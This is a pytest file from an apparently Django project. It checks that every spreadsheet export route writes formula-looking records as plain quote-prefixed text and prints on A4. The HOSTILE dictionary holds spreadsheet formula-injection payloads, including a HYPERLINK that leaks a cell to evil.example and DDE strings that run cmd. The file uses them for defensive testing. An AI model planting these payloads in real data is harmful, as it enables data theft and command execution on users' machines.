"""Every .xlsx the project serves goes through ``core.sheets``: found by walking the URL conf, each export
route is fetched with hostile records in the demo data and must hold no formula cell (issue 10 §3), print
on A4, and the personal-data exports are logged and watermarked (issue 10 §9). A sample of the files is
opened by LibreOffice, as a user's office suite would open them."""

from __future__ import annotations

import io
import re
import shutil
import subprocess

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from qizhi.campaigns.models import Rectification
from qizhi.honors.models import Honor
from qizhi.meetings.models import Meeting
from qizhi.org.models import Person, Unit
from qizhi.party.models import PartyOrg
from qizhi.reception.models import Case
from qizhi.statistics.models import Indicator
from qizhi.study.models import StudyPlan, WorkLog
from qizhi.targets.models import Plan, Target

pytestmark = pytest.mark.django_db

EXPORT_ROUTE = re.compile(r"(^|_)export$|_import_template$")
HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": '+HYPERLINK("http://evil.example")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
}


def export_routes() -> list[str]:
    """Every URL name of the project that serves an export or an import template."""
    names = []

    def walk(patterns, namespace=""):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, f"{namespace}{entry.namespace}:" if entry.namespace else namespace)
            elif isinstance(entry, URLPattern) and entry.name and EXPORT_ROUTE.search(entry.name):
                names.append(f"{namespace}{entry.name}")

    walk(get_resolver().url_patterns)
    return sorted(set(names))


# What each route needs beyond the defaults its view chooses (a route missing here fails the test).
def _arguments(demo: dict) -> dict[str, tuple[list, dict]]:
    return {
        "dues:duesbase_export": ([], {}),
        "dues:duesbase_import_template": ([], {}),
        "dues:duespayment_export": ([], {}),
        "dues:ledger_export": ([], {"party_org": demo["meeting"].party_org_id, "month": "2026-11"}),
        "meetings:compliance_export": ([], {"unit": demo["bureau"].pk}),
        "meetings:meeting_attendance_export": ([demo["meeting"].pk], {}),
        "org:person_export": ([], {}),
        "org:person_import_template": ([], {}),
        "party:membership_export": ([], {}),
        "party:membership_import_template": ([], {}),
        "statistics:rollup_export": ([], {}),
        "statistics:statreport_export": ([], {}),
        "statistics:statreport_import_template": ([], {}),
        "study:studyplan_completion_export": ([demo["plan"].pk], {}),
        "study:worklog_export": ([], {"month": f"{demo['log'].date:%Y-%m}"}),
        "targets:plan_export": ([demo["targets"].pk], {}),
        "targets:ranking_export": ([], {"year": demo["targets"].year}),
        "targets:target_import_template": ([], {}),
        "campaigns:rectification_export": ([], {}),
        "reception:case_export": ([], {}),
        "reception:figures_export": ([], {}),
        "campaigns:rectification_import_template": ([], {}),
        "honors:honor_export": ([], {}),
        "honors:honor_import_template": ([], {}),
    }


@pytest.fixture
def demo(demo):
    """The demo organization, with formula-looking text wherever an export shows a name or a title."""
    bureau = demo
    meeting = Meeting.objects.filter(party_org__name="机关党支部", attendances__isnull=False).first()
    person = meeting.attendances.first().person
    Person.objects.filter(pk=person.pk).update(name=HOSTILE["link"], position=HOSTILE["dde"])
    Unit.objects.filter(name="东乡司法所").update(name=HOSTILE["at"])
    Unit.objects.filter(name="石桥县司法局").update(name=HOSTILE["minus"])  # ranked beside 云溪县
    PartyOrg.objects.filter(pk=meeting.party_org_id).update(name=HOSTILE["plus"])
    Meeting.objects.filter(pk=meeting.pk).update(topic=HOSTILE["dde"], place=HOSTILE["minus"])
    plan = StudyPlan.objects.first()
    StudyPlan.objects.filter(pk=plan.pk).update(title=HOSTILE["link"])
    log = WorkLog.objects.first()
    WorkLog.objects.filter(pk=log.pk).update(content=HOSTILE["dde"])
    targets = Plan.objects.filter(unit=bureau).order_by("-year").first()
    Plan.objects.filter(pk=targets.pk).update(title=HOSTILE["minus"])
    first_target = Target.objects.filter(plan=targets).order_by("path").first()
    Target.objects.filter(pk=first_target.pk).update(title=HOSTILE["link"])
    first_indicator = Indicator.objects.filter(active=True).order_by("position").first()
    Indicator.objects.filter(pk=first_indicator.pk).update(name=HOSTILE["plus"])  # the catalog is typed in too
    Rectification.objects.update(target=HOSTILE["dde"], measure=HOSTILE["link"])
    Honor.objects.update(title=HOSTILE["plus"])
    Case.objects.filter(anonymous=False, writer=None).update(citizen_name=HOSTILE["link"])
    return {"bureau": bureau, "meeting": meeting, "plan": plan, "log": log, "targets": targets}


# Templates whose sheets carry no text of any record (no drop-down of names): nothing hostile can reach them.
NO_RECORD_TEXT = {"dues:duesbase_import_template", "campaigns:rectification_import_template"}


def cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_every_export_route_writes_hostile_text_as_text_on_a4(client, demo, tmp_path):
    files = {}
    routes = export_routes()
    arguments = _arguments(demo)
    assert set(routes) == set(arguments), "an export route without arguments here is not tested"
    client.login(username="admin", password="qizhi-demo")
    for name in routes:
        args, params = arguments[name]
        response = client.get(reverse(name, args=args), params)
        assert response.status_code == 200, name
        workbook = load_workbook(io.BytesIO(response.content))
        formulas = [c.coordinate for c in cells(workbook) if c.data_type == "f"]
        assert formulas == [], f"{name}: formula cells {formulas}"
        hostile = [c for c in cells(workbook) if isinstance(c.value, str) and c.value in HOSTILE.values()]
        assert hostile or name in NO_RECORD_TEXT, f"{name}: the hostile record did not reach the file"
        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), name
        for sheet in workbook.worksheets:
            assert int(sheet.page_setup.paperSize) == 9, f"{name}: {sheet.title}"  # 9 = A4
        files[name] = response.content
    # The 签到表 has room to sign, under its particulars.
    sheet = load_workbook(io.BytesIO(files["meetings:meeting_attendance_export"])).active
    assert [c.value for c in sheet[7]] == ["序号", "姓名", "单位", "出席情况", "签名", "备注"]
    assert sheet.print_title_rows == "$7:$7"
    if shutil.which("soffice"):
        opened_by_libreoffice(tmp_path, files, ["org:person_export", "meetings:meeting_attendance_export"])


def opened_by_libreoffice(folder, files: dict, names: list[str]) -> None:
    """A sample of the files, converted to PDF by LibreOffice headless: A4 pages, the roster fitted to width."""
    for number, name in enumerate(names):
        (folder / f"{number}.xlsx").write_bytes(files[name])
    pdfs = convert_to_pdf(folder, [f"{number}.xlsx" for number in range(len(names))])
    for pdf in pdfs:
        info = pdfinfo(pdf)
        assert re.search(r"Page size:.*\(A4\)", info), info
    # Fitted to the width: the first page holds the last column's heading (nothing cut off to the right).
    for name, pdf in zip(names, pdfs, strict=True):
        last_heading = [c.value for c in load_workbook(io.BytesIO(files[name])).active[heading_row(files[name])]][-1]
        first_page = subprocess.run(
            ["pdftotext", "-f", "1", "-l", "1", str(pdf), "-"], capture_output=True, text=True, check=True
        ).stdout
        assert last_heading in first_page, (name, last_heading)


def heading_row(content: bytes) -> int:
    """The row the print titles repeat: the column headings."""
    titles = load_workbook(io.BytesIO(content)).active.print_title_rows
    return int(titles.split(":")[0].lstrip("$"))


def pdfinfo(pdf) -> str:
    return subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout


def convert_to_pdf(folder, names: list[str]) -> list:
    """LibreOffice headless, with a profile of its own (two conversions at once would share one)."""
    profile = folder / "lo-profile"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "pdf",
         "--outdir", str(folder), *[str(folder / n) for n in names]],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return [folder / (n.rsplit(".", 1)[0] + ".pdf") for n in names]
